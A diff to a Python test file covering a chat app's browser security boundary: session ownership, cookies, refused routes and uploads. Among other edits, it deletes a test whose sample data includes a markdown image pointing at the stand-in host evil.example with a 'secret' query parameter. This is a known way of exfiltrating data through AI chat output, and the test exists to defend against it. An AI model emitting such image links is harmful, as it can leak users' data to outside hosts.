@@ -1,7 +1,7 @@
 """The browser boundary over raw HTTP: session binding, origins, refused routes and headers.
 
 The browser-side attacks (an evil page, a hijacked tab, a hostile reply, a framed Space) run in
-Chromium in tests/test_browser_boundary.py; these are the same rules as any script sees them.
+Chromium in tests/ui/test_browser_boundary.py; these are the same rules as any script sees them.
 """
 
 from __future__ import annotations
@@ -17,7 +17,6 @@ from tests import gradio_raw as raw
 from tests.conftest import RunningApp, canary
 from tests.fake_provider import FakeProvider
 from tests.gradio_raw import Visit, open_page
-from ui.chat_view import link_remote_media
 from web.boundary import BoundaryPolicy, SessionBindings
 
 SERVER_KEY = canary("boundary-server")
@@ -74,20 +73,6 @@ def test_a_session_hash_belongs_to_the_first_browser_that_uses_it() -> None:
     assert not bindings.claim("h1", "")  # no cookie is not the owner either
     assert bindings.claim("h2", "")
     assert not bindings.claim("h2", "browser-a")
-
-
-def test_remote_markdown_images_become_links_outside_code_only() -> None:
-    text = (
-        "See ![chart](https://evil.example/x.png?q=secret) and ![](http://evil.example/y)\n"
-        "```md\n![kept](https://example.com/in-code.png)\n```\n"
-        "inline `![kept](https://example.com/inline.png)` and ![local](data:image/png;base64,AAAA)"
-    )
-    out = link_remote_media(text)
-    assert "[chart](https://evil.example/x.png?q=secret)" in out and "![chart]" not in out
-    assert "[image](http://evil.example/y)" in out
-    assert "![kept](https://example.com/in-code.png)" in out
-    assert "`![kept](https://example.com/inline.png)`" in out
-    assert "![local](data:image/png;base64,AAAA)" in out
 
 
 def test_cookie_attributes_follow_what_the_browser_will_keep() -> None:
@@ -247,7 +232,7 @@ def test_unused_routes_are_refused(apps: Callable[..., RunningApp], method: str,
 def test_uploads_are_refused_without_the_page_cookie_and_unused_when_files_are_off(
     apps: Callable[..., RunningApp], method: str, path: str
 ) -> None:
-    """The chat takes files by default: an upload needs the browser cookie (tests/test_uploads.py
+    """The chat takes files by default: an upload needs the browser cookie (tests/web/test_uploads.py
     has the rest). With MAX_FILES_PER_MESSAGE=0 the routes are unused and refused outright."""
     files = {"files": ("a.png", b"x")} if method == "POST" else None
     on, off = apps(), apps(MAX_FILES_PER_MESSAGE="0")
